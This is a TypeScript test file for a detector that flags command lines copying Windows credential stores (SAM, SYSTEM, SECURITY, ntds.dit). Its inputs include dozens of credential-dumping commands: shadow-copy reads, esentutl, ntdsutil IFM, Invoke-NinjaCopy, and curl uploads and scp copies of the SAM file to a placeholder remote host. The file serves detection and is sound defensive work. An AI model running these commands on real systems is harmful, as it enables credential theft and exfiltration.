import { describe, expect, it } from 'vitest';
import { readHiveCopies } from '../../../src/core/act/hive-copy.ts';
import { hiveOfFileName, hiveOfHiveFile } from '../../../src/core/windows/registry/hive-file.ts';

const raw = String.raw;
const readHiveCopy = (line: string) => readHiveCopies(line)[0];
const SHADOW = '\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1';
const SAM = 'C:\\Windows\\System32\\config\\SAM';

describe('a command that copies a hive file', () => {
  it.each([
    [`esentutl.exe /y /vss ${SAM} /d C:\\t\\s`, 'esentutl', ['SAM'], 'c:\\t\\s', true, false],
    [
      'esentutl /y /vss C:\\windows/system32/config/SAM /d C:\\t\\s',
      'esentutl',
      ['SAM'],
      'c:\\t\\s',
      true,
      false,
    ],
    [`esentutl /y "${SAM}" /d "C:\\t\\s" /m`, 'esentutl', ['SAM'], 'c:\\t\\s', false, false],
    [
      `cmd /c copy ${SHADOW}\\Windows\\System32\\config\\SYSTEM C:\\t\\sys`,
      'copy',
      ['SYSTEM'],
      'c:\\t\\sys',
      true,
      false,
    ],
    [
      `cmd.exe /c "copy ${SHADOW}\\windows\\ntds\\ntds.dit C:\\t\\"`,
      'copy',
      ['NTDS'],
      'c:\\t\\ntds.dit',
      true,
      false,
    ],
    [`cmd /c esentutl /y ${SAM} /d C:\\t\\s`, 'esentutl', ['SAM'], 'c:\\t\\s', false, true],
    [
      `xcopy /h ${SHADOW}\\Windows\\System32\\config\\SECURITY D:\\o\\`,
      'xcopy',
      ['SECURITY'],
      'd:\\o\\security',
      true,
      false,
    ],
    [
      'robocopy /b C:\\Windows\\System32\\config C:\\t SAM SYSTEM',
      'robocopy',
      ['SAM', 'SYSTEM'],
      'c:\\t',
      false,
      false,
    ],
    [`print /D:C:\\t\\s ${SAM}`, 'print', ['SAM'], 'c:\\t\\s', false, false],
    [
      `powershell -c "Copy-Item ${SHADOW}\\Windows\\System32\\config\\SAM -Destination C:\\t\\s"`,
      'copy-item',
      ['SAM'],
      'c:\\t\\s',
      true,
      false,
    ],
    [
      `powershell [IO.File]::Copy('${SHADOW}\\Windows\\System32\\config\\SAM','C:\\t\\s')`,
      '[io.file]::copy',
      ['SAM'],
      'c:\\t\\s',
      true,
      false,
    ],
    [`7z a C:\\t\\o.7z ${SAM}`, '7z', ['SAM'], undefined, false, false],
    [
      'ntdsutil "ac i ntds" "ifm" "create full c:\\t" q q',
      'ntdsutil',
      ['NTDS', 'SYSTEM'],
      'c:\\t',
      true,
      false,
    ],
    [
      'cmd /c copy C:\\Windows\\System32\\config\\RegBack\\SAM C:\\t\\s',
      'copy',
      ['SAM'],
      'c:\\t\\s',
      false,
      false,
    ],
  ])('%s', (line, tool, hives, output, shadowCopy, wrapped) => {
    expect(readHiveCopy(line)).toMatchObject({ tool, hives, shadowCopy, wrapped });
    if (output !== undefined) expect(readHiveCopy(line)?.output).toBe(output);
  });

  it.each([
    `notepad.exe ${SAM}`,
    `icacls ${SAM}`,
    'cmd /c copy C:\\app\\config\\settings.json D:\\o',
    'robocopy C:\\app\\config D:\\o settings.json',
    'cmd /c dir C:\\Windows\\System32\\config\\',
    'ntdsutil "files" "info" q q',
    'xcopy C:\\Users\\a\\Documents D:\\o /s',
  ])('%s is none', (line) => {
    expect(readHiveCopy(line)).toBeUndefined();
  });
});

const SYSTEM = 'C:\\Windows\\System32\\config\\SYSTEM';

describe('the shell, the spelling and the switches of a copy', () => {
  it.each([
    // PowerShell's own commands, in either of its programs
    [`pwsh -c "cp ${SAM} C:\\t\\s"`, 'cp', 'c:\\t\\s', false],
    [`powershell "copy ${SAM} C:\\t\\s"`, 'copy', 'c:\\t\\s', false],
    [`powershell -Command   "& { cp ${SAM} C:\\t\\s }"`, 'cp', 'c:\\t\\s', false],
    [`powershell -c "whoami; cp ${SAM} C:\\t\\s"`, 'cp', 'c:\\t\\s', false],
    [
      `powershell -c "[System.IO.File]::Copy('${SAM}','C:\\t\\s')"`,
      '[system.io.file]::copy',
      'c:\\t\\s',
      false,
    ],
    [`powershell -c "[IO.File]::ReadAllBytes('${SAM}')"`, '[io.file]::readallbytes', undefined, false],
    [
      `powershell -c "Invoke-NinjaCopy -Path ${SAM} -LocalDestination C:\\t\\s"`,
      'invoke-ninjacopy',
      'c:\\t\\s',
      false,
    ],
    [`powershell -c "copy-item ${SAM} -dest C:\\t\\s"`, 'copy-item', 'c:\\t\\s', false],
    [`powershell -c "copy-item -Filter x ${SAM} -dest C:\\t\\s"`, 'copy-item', 'c:\\t\\s', false],
    [`powershell -c "copy-item -Filter x ${SAM} -Destination C:\\t\\s"`, 'copy-item', 'c:\\t\\s', false],
    [`powershell -c "copy-item -Filter x ${SAM} -d C:\\t\\s"`, 'copy-item', 'c:\\t\\s', false],
    [
      `powershell -c "Invoke-NinjaCopy -ComputerName srv -Path ${SAM} -LocalDestination C:\\t\\s"`,
      'invoke-ninjacopy',
      'c:\\t\\s',
      false,
    ],
    // what is listed is handed on
    [`powershell -c "gci ${SAM} | % { Copy-Item $_ C:\\t\\s }"`, 'copy-item', 'c:\\t\\s', false],
    [`powershell -c "Get-Item '${SAM}' -Force | cp -Destination C:\\t\\s"`, 'cp', 'c:\\t\\s', false],
    [`powershell -c "esentutl /y ${SAM} /d C:\\t\\s"`, 'esentutl', 'c:\\t\\s', true],
    // names of programs
    [`C:/tools/rawcopy64.exe ${SAM} C:\\t\\s`, 'rawcopy64', 'c:\\t\\s', false],
    [`es"entut"l /y ${SAM} /d C:\\t\\s`, 'esentutl', 'c:\\t\\s', false],
    [`esentutl.com /y ${SAM} /d C:\\t\\s`, 'esentutl', 'c:\\t\\s', false],
    // where the copy goes
    [`esentutl /y ${SAM} -d C:\\t\\s`, 'esentutl', 'c:\\t\\s', false],
    [`esentutl /d C:\\t\\s /y ${SAM}`, 'esentutl', 'c:\\t\\s', false],
    [`esentutl /y${SAM} /d C:\\t\\s`, 'esentutl', 'c:\\t\\s', false],
    [`print /dC:\\t\\s ${SAM}`, 'print', 'c:\\t\\s', false],
    [`print /d:\\\\srv\\s ${SAM}`, 'print', '\\\\srv\\s', false],
    [`wbadmin start backup -include:${SAM} -backupTarget:\\\\srv\\d -quiet`, 'wbadmin', '\\\\srv\\d', false],
    [`wbadmin start recovery -items:${SAM} -recoveryTarget:D:\\r`, 'wbadmin', 'd:\\r', false],
    [`cmd /c copy /y ${SAM} C:\\t\\s`, 'copy', 'c:\\t\\s', false],
    [`cmd /c copy ${SAM} D:`, 'copy', 'd:\\sam', false],
    [`cmd /c copy ${SAM} "C:\\t o\\\\"`, 'copy', 'c:\\t o\\sam', false],
    [`cmd /c copy ${SAM} s`, 'copy', 's', false],
    [`cmd /c copy ${SAM} a-b`, 'copy', 'a-b', false],
    [`cmd /c mklink C:\\t\\l ${SAM}`, 'mklink', 'c:\\t\\l', false],
    [`cmd /c whoami & copy ${SAM} C:\\t\\s`, 'copy', 'c:\\t\\s', false],
    [`tar -cf a.tar ${SAM}`, 'tar', 'a.tar', false],
    [`makecab ${SAM} C:\\t\\a-b.cab`, 'makecab', 'c:\\t\\a-b.cab', false],
    // what a shell writes is where its arrow leads
    [`cmd /c type ${SAM} > C:\\t\\s`, 'type', 'c:\\t\\s', false],
    [`cmd /c type ${SAM} 2>nul 1>>"C:\\t o\\s" & whoami`, 'type', 'c:\\t o\\s', false],
    [`cmd /c >C:\\t\\s type ${SAM}`, 'type', 'c:\\t\\s', false],
    [`powershell -c "type ${SAM} >C:\\t\\s"`, 'type', 'c:\\t\\s', false],
    [`cmd /c type ${SAM} >nul 2>C:\\e`, 'type', undefined, false],
    [`cmd /c copy ${SAM} C:\\t\\s >C:\\log.txt`, 'copy', 'c:\\t\\s', false],
    // the verb of an archiver is no file
    [`7z a a.7z ${SAM}`, '7z', 'a.7z', false],
    [`rar a -r C:\\t\\a.rar ${SAM}`, 'rar', 'c:\\t\\a.rar', false],
    [`tar cf a.tar ${SAM}`, 'tar', 'a.tar', false],
    [`wbadmin start backup -include:${SAM} -quiet`, 'wbadmin', undefined, false],
    [`wbadmin start backup -backupTarget:D: -include:${SAM}`, 'wbadmin', 'd:', false],
    [`wbadmin start recovery -items:${SAM} -recoveryTarget:D:\\`, 'wbadmin', 'd:\\sam', false],
    // what is sent elsewhere leaves no file
    [`curl -F f=@${SAM} https://e.test/u`, 'curl', undefined, false],
    [`curl -F "f=@${SAM};type=text/plain" -H "A: b" https://e.test/u`, 'curl', undefined, false],
    [`curl --data-binary @${SAM} https://e.test/u`, 'curl', undefined, false],
    [`curl -T ${SAM} ftp://e.test/`, 'curl', undefined, false],
    [`curl file:///${SAM} -o C:\\t\\s`, 'curl', 'c:\\t\\s', false],
    [`curl -oC:\\t\\s file:///${SAM}`, 'curl', 'c:\\t\\s', false],
    [`curl --output C:\\t\\s file:///${SAM}`, 'curl', 'c:\\t\\s', false],
    [`scp ${SAM} kim@srv:/tmp/s`, 'scp', undefined, false],
    [`pscp ${SAM} srv:`, 'pscp', undefined, false],
    // a folder, with the name that the file has
    [`cmd /c copy ${SAM} .`, 'copy', 'sam', false],
    [`cmd /c copy ${SAM} ..`, 'copy', '..\\sam', false],
    [`cmd /c copy ${SAM} C:\\t\\.`, 'copy', 'c:\\t\\sam', false],
    [`xcopy /d ${SAM} D:\\o\\`, 'xcopy', 'd:\\o\\sam', false],
    // started by the shell's own word
    [`cmd /c start /b esentutl /y ${SAM} /d C:\\t\\s`, 'esentutl', 'c:\\t\\s', true],
    [`cmd /c start "t" copy ${SAM} C:\\t\\s`, 'copy', 'c:\\t\\s', true],
    [`cmd /c call copy ${SAM} C:\\t\\s`, 'copy', 'c:\\t\\s', false],
    [`powershell -c "start esentutl '/y ${SAM} /d C:\\t\\s'"`, 'esentutl', 'c:\\t\\s', true],
    [
      `powershell -c "Start-Process -FilePath esentutl -ArgumentList '/y','${SAM}','/d','C:\\t\\s'"`,
      'esentutl',
      'c:\\t\\s',
      true,
    ],
    [`xcopy ${SAM}`, 'xcopy', undefined, false],
    [`xcopy ${SAM} 2>nul`, 'xcopy', undefined, false],
    [`xcopy ${SAM} >nul`, 'xcopy', undefined, false],
    [`xcopy ${SAM} >>C:\\log.txt`, 'xcopy', undefined, false],
  ])('%s', (line, tool, output, wrapped) => {
    expect(readHiveCopy(line)).toEqual({
      tool,
      hives: ['SAM'],
      source: SAM.toLowerCase(),
      output,
      shadowCopy: false,
      wrapped,
    });
  });

  it.each([
    [`esentutl /y ${SAM} /d C:\\x-vss`, false],
    [`esentutl /y ${SAM} /vssrec /d C:\\t\\s`, false],
    [`esentutl -vss /y ${SAM} /d C:\\t\\s`, true],
    [`cmd /c copy \\\\srv\\c$\\@GMT-2024.01.02-03.04.05\\Windows\\System32\\config\\SAM C:\\t\\s`, true],
  ])('%s reads a shadow copy: %s', (line, shadowCopy) => {
    expect(readHiveCopy(line)?.shadowCopy).toBe(shadowCopy);
  });
});

describe('several hives at once', () => {
  it.each([
    [`tar -cf C:\\t\\a.tar ${SYSTEM} ${SAM}`, ['SAM', 'SYSTEM'], SYSTEM.toLowerCase(), 'c:\\t\\a.tar'],
    [
      'robocopy C:\\Windows\\System32\\config D:\\o /b',
      ['SAM', 'SECURITY', 'SOFTWARE', 'SYSTEM'],
      'c:\\windows\\system32\\config',
      'd:\\o',
    ],
    [
      'robocopy C:\\Windows\\System32\\config D:\\o SYSTEM sam /b',
      ['SAM', 'SYSTEM'],
      'c:\\windows\\system32\\config',
      'd:\\o',
    ],
    [
      'robocopy C:\\Windows\\Sysnative\\config\\RegBack D:\\o',
      ['SAM', 'SECURITY', 'SOFTWARE', 'SYSTEM'],
      'c:\\windows\\sysnative\\config\\regback',
      'd:\\o',
    ],
    [
      'robocopy C:\\Windows\\Sysnative\\config\\RegBack\\ D:\\o',
      ['SAM', 'SECURITY', 'SOFTWARE', 'SYSTEM'],
      'c:\\windows\\sysnative\\config\\regback',
      'd:\\o',
    ],
    [
      `robocopy ${SHADOW}\\Windows\\repair D:\\o /e`,
      ['SAM', 'SECURITY', 'SOFTWARE', 'SYSTEM'],
      '?:\\windows\\repair',
      'd:\\o',
    ],
  ])('%s', (line, hives, source, output) => {
    expect(readHiveCopy(line)).toMatchObject({ hives, source, output });
  });

  it.each([
    'robocopy C:\\Windows\\System32\\config /b',
    'robocopy /log:C:\\Windows\\System32\\config\\a.log',
    'robocopy "C:\\Windows\\System32\\config\\',
    'C:\\Windows\\System32\\config\\',
    'robocopy C:\\Windows\\System32\\config D:\\o notes.txt',
    'robocopy C:\\Windows\\System32\\config\\systemprofile D:\\o',
    'robocopy C:\\app\\config D:\\o',
    'robocopy C:\\app\\config\\RegBack D:\\o',
    `esentutl.exe.bak /y ${SAM} /d C:\\t\\s`,
    `findstr password ${SAM}`,
  ])('are none in %s', (line) => {
    expect(readHiveCopy(line)).toBeUndefined();
  });
});

describe('installation media of ntdsutil, by any beginning of its words', () => {
  it.each([
    ['ntdsutil "activate instance ntds" i "cr fu C:\\t" q q', 'c:\\t'],
    ['ntdsutil "ac in ntds" ifm "cre f C:\\t" q q', 'c:\\t'],
    ['ntdsutil "ac in ntds" if "crea sysvol full C:\\t" q', 'c:\\t'],
    ['ntdsutil "ac in ntds" ifm "creat sy ful C:\\t" q', 'c:\\t'],
    ['ntdsutil "ac in ntds" ifm "create  sysvol  full  C:\\t" q', 'c:\\t'],
    ['ntdsutil "ac in ntds" ifm "create full t" q', undefined],
  ])('%s', (line, output) => {
    expect(readHiveCopy(line)).toEqual({
      tool: 'ntdsutil',
      hives: ['NTDS', 'SYSTEM'],
      source: 'ntds.dit',
      output,
      shadowCopy: true,
      wrapped: false,
    });
  });

  it('are made by words in escaped quotes as well', () => {
    const line = raw`powershell -c "ntdsutil \"activate instance ntds\" \"ifm\" \"create full C:\t\" q q"`;
    expect(readHiveCopy(line)).toMatchObject({ hives: ['NTDS', 'SYSTEM'], output: raw`c:\t` });
  });

  it('are not made by another menu', () => {
    expect(readHiveCopy('ntdsutil "ac in ntds" "create full C:\\t" q')).toBeUndefined();
    expect(readHiveCopy('ntdsutil "ac in ntds" ifm q')).toBeUndefined();
    expect(readHiveCopy('ntdsutil "ac i ntds" "create full C:\\t" q')).toBeUndefined();
    expect(readHiveCopy('ntdsutil "ac in ntds" im "create full C:\\t" q')).toBeUndefined();
  });
});

describe('the name of a copy', () => {
  it.each([
    ['C:\\Temp\\sam', 'SAM'],
    ['C:\\Temp\\SAM.save', 'SAM'],
    ['C:\\Windows\\Temp\\hive_sam_1.save', 'SAM'],
    ['C:\\x\\SAM-haxx', 'SAM'],
    ['C:\\x\\SAM-2021-07-20.dmp', 'SAM'],
    ['C:\\x\\~reg_sam.save', 'SAM'],
    ['C:\\Extract\\SYSTEM_HIVE', 'SYSTEM'],
    ['C:\\Windows\\Temp\\sec.tmp', 'SECURITY'],
    ['C:\\x\\dc01.security.hive', 'SECURITY'],
    ['C:\\x\\HKLM-Software.reg', 'SOFTWARE'],
    ['C:\\x\\ntds.dit', 'NTDS'],
  ])('%s is told', (path, hive) => {
    expect(hiveOfFileName(path)).toBe(hive);
  });

  it.each([
    'C:\\x\\system.log',
    'C:\\x\\system32.dll',
    'C:\\x\\security-update.tmp',
    'C:\\x\\samples.dat',
    'C:\\x\\sys',
    'C:\\x\\system.ini',
    'C:\\x\\operating system.dat',
    'C:\\x\\Security.evtx',
  ])('%s is another file', (path) => {
    expect(hiveOfFileName(path)).toBeUndefined();
  });

  it("tells the hives' own files by their place", () => {
    expect(hiveOfHiveFile('c:\\windows\\system32\\config\\sam')).toBe('SAM');
    expect(hiveOfHiveFile('c:\\windows\\system32\\config\\regback\\system')).toBe('SYSTEM');
    expect(hiveOfHiveFile('c:\\users\\kim\\ntuser.dat')).toBe('NTUSER');
    expect(hiveOfHiveFile('c:\\temp\\sam')).toBeUndefined();
  });
});
